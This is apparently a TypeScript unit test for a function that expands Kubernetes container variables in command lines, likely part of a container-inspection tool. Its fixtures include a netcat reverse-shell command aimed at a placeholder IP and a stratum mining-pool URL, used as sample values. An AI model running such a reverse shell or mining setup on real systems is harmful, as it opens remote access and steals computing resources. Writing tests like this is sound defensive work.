import { strict as assert } from 'node:assert';
import { withVariables } from '../../../shared/kubernetes/variables.ts';

const VARIABLES = [
  { name: 'SCHEME', value: 'stratum' },
  { name: 'POOL', value: '$(SCHEME)+tcp://pool.example.com:3333' },
  { name: 'SCRIPT', value: 'nc -e /bin/sh 203.0.113.9 4444' },
  { name: 'FROM_SECRET' },
];

describe('a command line with variables of its container', () => {
  const cases: Array<[string, string, string]> = [
    ['in the words of Kubernetes', 'app -o $(POOL)', 'app -o stratum+tcp://pool.example.com:3333'],
    ['in those of a shell', 'sh -c eval "$SCRIPT"', 'sh -c eval "nc -e /bin/sh 203.0.113.9 4444"'],
    ['in braces', `sh -c \${SCRIPT}`, 'sh -c nc -e /bin/sh 203.0.113.9 4444'],
    ['that is defined elsewhere', 'app $(FROM_SECRET) $OTHER', 'app $(FROM_SECRET) $OTHER'],
    ['that only begins like one', 'app $SCRIPTS', 'app $SCRIPTS'],
    ['that is a command', 'sh -c echo $(date)', 'sh -c echo $(date)'],
  ];
  for (const [what, line, expected] of cases)
    it(`has their values: one ${what}`, () => assert.deepEqual(withVariables([line], VARIABLES), [expected]));

  it('stays as it is where the container has none', () => {
    const lines = ['app -o $(POOL)'];
    assert.equal(withVariables(lines, []), lines);
  });

  it('does not grow without end', () => {
    const doubled = Array.from({ length: 300 }, (_, index) => ({
      name: `V${index}`,
      value: index === 0 ? 'a'.repeat(100) : `$(V${index - 1})$(V${index - 1})`,
    }));
    const [line = ''] = withVariables(['$(V299) '.repeat(100)], doubled);
    assert.ok(line.length < 16 * 1024);
  });
});
